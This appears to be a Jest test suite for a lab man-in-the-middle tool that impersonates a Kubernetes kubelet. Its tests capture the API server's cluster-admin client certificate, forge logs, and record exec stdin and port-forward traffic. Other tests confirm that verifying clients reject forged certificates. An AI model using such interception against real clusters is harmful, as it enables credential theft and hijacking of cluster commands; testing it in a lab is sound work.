import { buffer, text } from 'node:stream/consumers';
import { describe, expect, test } from '@jest/globals';
import { WebSocket } from 'ws';
import type { HttpResponse, OutgoingRequest, Target, Transport, Upgraded } from '../network/transport';
import { exitStatus } from '../wire/remote-command';
import { SpdySession } from '../wire/spdy-session';
import type { SpdyStream } from '../wire/spdy-stream';
import { name, route } from './position';
import { KUBELET, NODE, type Segment, startSegment } from './testing-segment';

const kubelet: Target = { host: NODE, port: KUBELET.port, scheme: 'https' };

function ask(method: string, path: string, body?: string): OutgoingRequest {
  const host: [string, string] = ['Host', `${NODE}:10250`];
  if (body === undefined) return { method, path, headers: [host] };
  return { method, path, headers: [host, ['Content-Length', `${body.length}`]], body: Buffer.from(body) };
}

async function answer(
  transport: Transport,
  request: OutgoingRequest,
  target = kubelet,
): Promise<HttpResponse> {
  const answered = await transport.roundTrip(target, request);
  if (answered.kind === 'refusal') throw new Error(answered.text);
  return answered;
}

async function openSpdy(transport: Transport, path: string, protocol: string): Promise<SpdySession> {
  const headers: [string, string][] = [
    ['Host', `${NODE}:10250`],
    ['Connection', 'Upgrade'],
    ['Upgrade', 'SPDY/3.1'],
    ['X-Stream-Protocol-Version', protocol],
  ];
  const answered = await transport.upgrade(kubelet, { method: 'POST', path, headers });
  if (answered.kind !== 'upgraded') throw new Error(`not upgraded: ${JSON.stringify(answered)}`);
  return new SpdySession((answered as Upgraded).socket, { role: 'client' });
}

function kinds(segment: Segment): string[] {
  return segment.events.filter((event) => event.host === 'attacker').map((event) => event.kind);
}

describe('impersonation of a kubelet, towards a client that believes anybody', () => {
  test('forges logs, and is shown the client certificate', async () => {
    await using segment = await startSegment();
    await using attack = await segment.attack({ mode: 'impersonate', targets: [KUBELET] });
    const path = '/containerLogs/default/web/web?follow=true';
    const logs = await answer(segment.believing, ask('GET', path));
    expect(logs.status).toBe(200);
    expect(logs.headers).toContainEqual(['Content-Type', 'text/plain']);
    await expect(text(logs.body)).resolves.toBe('FORGED\n');
    await attack.withdraw();
    expect(attack.loot.requests).toMatchObject([{ method: 'GET', path }]);
    expect(attack.loot.down()).toHaveLength(0);
    expect(attack.loot.handshakes).toEqual([
      {
        connection: expect.any(String),
        completed: true,
        version: 'TLSv1.3',
        alert: null,
        serverName: null,
        clientCertificateAsked: true,
        clientCertificate: {
          subject: expect.stringContaining('CN=kube-apiserver-kubelet-client'),
          organizations: ['kubeadm:cluster-admins'],
        },
      },
    ]);
    expect(kinds(segment)).toEqual([
      'position-taken',
      'connection-intercepted',
      'certificate-shown',
      'handshake-finished',
      'client-certificate-captured',
      'request-captured',
      'answer-forged',
      'position-withdrawn',
    ]);
  });

  test.each(['TLSv1.2', 'TLSv1.3'] as const)('takes the body of a request over %s', async (tlsVersion) => {
    await using segment = await startSegment();
    await using attack = await segment.attack({ mode: 'impersonate', targets: [KUBELET], tlsVersion });
    const ran = await answer(segment.believing, ask('POST', '/run/default/web/web?cmd=cat+canary', 'secret'));
    await expect(text(ran.body)).resolves.toBe('FORGED\n');
    expect(attack.loot.requests).toMatchObject([{ command: ['cat', 'canary'], body: 'secret' }]);
    expect(attack.loot.handshakes).toMatchObject([{ version: tlsVersion }]);
  });

  test('runs a false shell that takes everything typed into it', async () => {
    await using segment = await startSegment();
    await using attack = await segment.attack({ mode: 'impersonate', targets: [KUBELET] });
    const path = '/exec/default/web/web?command=sh&error=1&input=1&output=1';
    const session = await openSpdy(segment.believing, path, 'v4.channel.k8s.io');
    const open = (streamtype: string): Promise<SpdyStream> => session.open({ streamtype });
    const [error, stdin, stdout, stderr] = await Promise.all(
      ['error', 'stdin', 'stdout', 'stderr'].map(open),
    );
    stdin?.write('echo can');
    stdin?.end('ary\n');
    await expect(text(stdout as SpdyStream)).resolves.toBe('FORGED\n');
    await expect(text(stderr as SpdyStream)).resolves.toBe('');
    await expect(text(error as SpdyStream)).resolves.toBe(exitStatus(0));
    await session.ended;
    expect(attack.loot.requests).toMatchObject([{ command: ['sh'], stdin: 'echo canary\n' }]);
    expect(attack.loot.up().includes('echo canary')).toBe(true);
    expect(attack.loot.quote()).toEqual([`POST ${path}`, 'stdin "echo canary"']);
  });

  test('attaches to nothing, and ends at once without stdin', async () => {
    await using segment = await startSegment();
    await using _attack = await segment.attack({ mode: 'impersonate', targets: [KUBELET] });
    const session = await openSpdy(
      segment.believing,
      '/attach/default/web/web?output=1',
      'v4.channel.k8s.io',
    );
    const error = await session.open({ streamtype: 'error' });
    const stdout = await session.open({ streamtype: 'stdout' });
    await expect(text(stdout)).resolves.toBe('FORGED\n');
    await expect(text(error)).resolves.toBe(exitStatus(0));
  });

  test('forwards ports to nowhere, each connection by itself', async () => {
    await using segment = await startSegment();
    await using attack = await segment.attack({ mode: 'impersonate', targets: [KUBELET] });
    const session = await openSpdy(segment.believing, '/portForward/default/web', 'portforward.k8s.io');
    for (const requestid of ['0', '1']) {
      const error = await session.open({ streamtype: 'error', port: '80', requestid });
      error.end();
      const data = await session.open({ streamtype: 'data', port: '80', requestid });
      data.end(`canary-${requestid}`);
      await expect(text(data)).resolves.toBe('FORGED\n');
      await expect(text(error)).resolves.toBe('');
    }
    session.close();
    expect(attack.loot.requests).toMatchObject([{ forwarded: 'canary-0canary-1' }]);
  });

  test('answers exec over WebSocket, and closes in good order', async () => {
    await using segment = await startSegment();
    await using attack = await segment.attack({ mode: 'impersonate', targets: [KUBELET] });
    const secure = await segment.believing.connect(kubelet);
    if (secure.kind === 'refusal') throw new Error(secure.text);
    const url = `ws://${NODE}:10250/exec/default/web/web?command=sh&input=1&output=1`;
    const options = { createConnection: () => secure.socket as never };
    const socket = new WebSocket(url, ['v4.channel.k8s.io'], options);
    const messages: string[] = [];
    socket.on('message', (message: Buffer) => messages.push(message.toString('latin1')));
    socket.on('open', () => socket.send(Buffer.from('\0canary\n')));
    const code = await new Promise((resolve) => socket.on('close', resolve));
    expect(code).toBe(1000);
    expect(messages).toEqual(['\x01', '\x01FORGED\n', `\x03${exitStatus(0)}`]);
    expect(attack.loot.requests).toMatchObject([{ stdin: 'canary\n' }]);
  });
});

describe('impersonation of a backend in clear', () => {
  test('needs no certificate', async () => {
    await using segment = await startSegment();
    const backend = { address: NODE, port: 8080 };
    await using attack = await segment.attack({ mode: 'impersonate', targets: [backend] });
    const page = await answer(segment.believing, ask('PUT', '/cart', 'canary'), {
      ...kubelet,
      port: 8080,
      scheme: 'http',
    });
    await expect(text(page.body)).resolves.toBe('FORGED\n');
    expect(attack.loot.requests).toMatchObject([{ method: 'PUT', path: '/cart', body: 'canary' }]);
    expect(attack.loot.handshakes).toEqual([]);
  });
});

describe('impersonation, towards a client that verifies', () => {
  test('is refused with bad_certificate over TLS 1.2 too, and is not shown the client certificate', async () => {
    await using segment = await startSegment();
    await using attack = await segment.attack({
      mode: 'impersonate',
      targets: [KUBELET],
      tlsVersion: 'TLSv1.2',
    });
    await segment.verifying.roundTrip(kubelet, ask('GET', '/containerLogs/a/b/c'));
    await attack.withdraw();
    expect(attack.loot.handshakes).toMatchObject([
      { completed: false, version: 'TLSv1.2', alert: 'bad_certificate', clientCertificate: null },
    ]);
    expect(attack.loot.up()).toHaveLength(0);
  });

  test.each([
    ['self-signed', /x509: certificate signed by unknown authority$/],
    [
      'rogue-ca',
      /unknown authority \(possibly because of .* candidate authority certificate "LAB kubernetes"\)$/,
    ],
  ])('%s is refused with bad_certificate, before anything is shown', async (technique, words) => {
    await using segment = await startSegment();
    await segment.serve(KUBELET.port, { tls: true });
    await using attack = await segment.attack({ mode: 'impersonate', targets: [KUBELET], technique });
    const refused = await segment.verifying.roundTrip(kubelet, ask('GET', '/containerLogs/a/b/c'));
    expect(refused).toMatchObject({
      kind: 'refusal',
      code: 'CERTIFICATE_REFUSED',
      text: expect.stringMatching(words),
    });
    await attack.withdraw();
    expect(attack.loot.handshakes).toMatchObject([
      { completed: false, alert: 'bad_certificate', clientCertificate: null },
    ]);
    expect(attack.loot.requests).toEqual([]);
    expect(attack.loot.up()).toHaveLength(0);
    expect(attack.loot.quote()).toEqual(['alert bad_certificate']);
  });

  test('is believed with the genuine key in its hands', async () => {
    await using segment = await startSegment();
    const { serving: present } = segment;
    await using attack = await segment.attack({ mode: 'impersonate', targets: [KUBELET], present });
    const logs = await answer(segment.verifying, ask('GET', '/containerLogs/a/b/c'));
    await expect(text(logs.body)).resolves.toBe('FORGED\n');
    expect(attack.loot.handshakes).toMatchObject([{ completed: true }]);
  });
});

describe('an attack', () => {
  test('by route, and by name, brings the victim to the attacker as well', async () => {
    await using segment = await startSegment();
    const { attackerHost, believing, controlPlane } = segment;
    for (const position of [
      route(controlPlane, attackerHost, NODE),
      name(controlPlane, attackerHost, 'node-1'),
    ]) {
      await using attack = await segment.attack({ mode: 'impersonate', targets: [KUBELET], position });
      const host = position.takenName ?? NODE;
      const logs = await answer(believing, ask('GET', '/containerLogs/a/b/c'), { ...kubelet, host });
      await expect(text(logs.body)).resolves.toBe('FORGED\n');
      expect(attack.loot.handshakes).toMatchObject([{ serverName: position.takenName }]);
    }
  });

  test('leaves other ports of the victim alone', async () => {
    await using segment = await startSegment();
    await segment.serve(8080, { tls: false, request: (_request, response) => response.end('genuine') });
    await using _attack = await segment.attack({ mode: 'impersonate', targets: [KUBELET] });
    const page = await answer(segment.believing, ask('GET', '/'), { host: NODE, port: 8080, scheme: 'http' });
    await expect(text(page.body)).resolves.toBe('genuine');
  });

  test('that is withdrawn gives everything back and leaves nothing open, whatever the victim was doing', async () => {
    await using segment = await startSegment();
    await segment.serve(KUBELET.port, {
      tls: true,
      request: (_request, response) => response.end('genuine'),
    });
    const attack = await segment.attack({ mode: 'impersonate', targets: [KUBELET] });
    const path = '/exec/default/web/web?command=sh&input=1&output=1';
    const session = await openSpdy(segment.believing, path, 'v4.channel.k8s.io');
    await attack.withdraw();
    await attack.withdraw();
    await session.ended;
    expect(segment.attackerHost.forwards).toBe(false);
    expect(segment.controlPlane.neighbours.entries()).toEqual([]);
    const genuine = await answer(segment.verifying, ask('GET', '/'));
    await expect(text(genuine.body)).resolves.toBe('genuine');
  });

  test.each([
    ['nothing but a first byte', Buffer.from([0x16])],
    ['a record header without end', Buffer.from([0x16, 3, 1, 0xff, 0xff, ...Array(200).fill(1)])],
    ['noise', Buffer.from([0, 255, 13, 10, 13, 10])],
    ['a head without end', Buffer.from(`GET / HTTP/1.1\r\nX: ${'a'.repeat(600_000)}`)],
    ['SPDY noise behind an upgrade', spdyNoise()],
  ])('survives a victim that sends %s', async (_case, bytes) => {
    await using segment = await startSegment();
    await using attack = await segment.attack({ mode: 'impersonate', targets: [KUBELET] });
    const hostile = await segment.controlPlane.dial({ host: NODE, port: KUBELET.port });
    if (hostile.kind === 'refusal') throw new Error(hostile.text);
    hostile.socket.on('error', () => undefined);
    hostile.socket.end(bytes);
    await buffer(hostile.socket).catch(() => undefined);
    const logs = await answer(segment.believing, ask('GET', '/containerLogs/a/b/c'));
    await expect(text(logs.body)).resolves.toBe('FORGED\n');
    expect(attack.loot.connections).toBe(2);
  });
});

function spdyNoise(): Buffer {
  const upgrade = [
    'POST /exec/a/b/c?output=1 HTTP/1.1',
    'Host: a',
    'Connection: Upgrade',
    'Upgrade: SPDY/3.1',
    'X-Stream-Protocol-Version: v4.channel.k8s.io',
  ];
  const synStream = Buffer.from('8003000100000010000000010000000000004141414141', 'hex');
  return Buffer.concat([Buffer.from(`${upgrade.join('\r\n')}\r\n\r\n`), synStream, synStream]);
}
